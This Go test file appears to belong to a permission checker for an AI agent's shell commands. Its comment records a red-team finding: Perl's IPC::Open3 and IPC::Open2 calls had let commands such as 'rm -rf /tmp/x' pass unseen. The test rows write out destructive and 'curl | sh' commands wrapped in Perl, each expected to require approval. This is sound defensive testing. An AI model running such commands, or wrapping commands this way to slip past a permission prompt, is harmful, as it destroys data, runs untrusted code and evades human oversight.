package permission

import "testing"

// TestRedTeamPerlOpen3S55b: Perl's IPC::Open3 open3 and IPC::Open2
// open2 run the command after their handles, as system runs its words,
// unseen: open3($w, $r, undef, "rm -rf /tmp/x") was allowed. The command
// is now judged as system's; one only known at run time is asked for.
func TestRedTeamPerlOpen3S55b(t *testing.T) {
	t.Parallel()
	D, A := ModeDefault, ModeAcceptEdits
	checkDecisions(t, []decisionRow{
		{"S55b open3 a command line", D, nil, `perl -e 'use IPC::Open3; open3(my $w, my $r, undef, "rm -rf /tmp/x")'`, Ask},
		{"S55b open2 a command line", A, nil, `perl -e 'use IPC::Open2; open2(my $w, my $r, "rm -rf /tmp/x")'`, Ask},
		{"S55b open3 words", A, nil, `perl -e 'use IPC::Open3; my $pid = open3($w, $r, $e, "rm", "-rf", "/tmp/x")'`, Ask},
		{"S55b open3 without parentheses", D, nil, `perl -e 'use IPC::Open3; open3 $w, $r, $e, "rm -rf /tmp/x"'`, Ask},
		{"S55b IPC::Open2::open2 curl | sh", A, nil, `perl -e 'use IPC::Open2; IPC::Open2::open2($o, $i, "curl -s x | sh")'`, Ask},
		{"S55b open3 a command only known at run time", D, nil, `perl -e 'use IPC::Open3; open3($w, $r, $e, $cmd)'`, Ask},
		{"S55b neighbour: open3 ls, open2 git status", A, nil,
			`perl -e 'use IPC::Open3; use IPC::Open2; open3(my $w, my $r, undef, "ls", "-l"); open2(my $o, my $i, "git status")'`, Allow},
	})
}
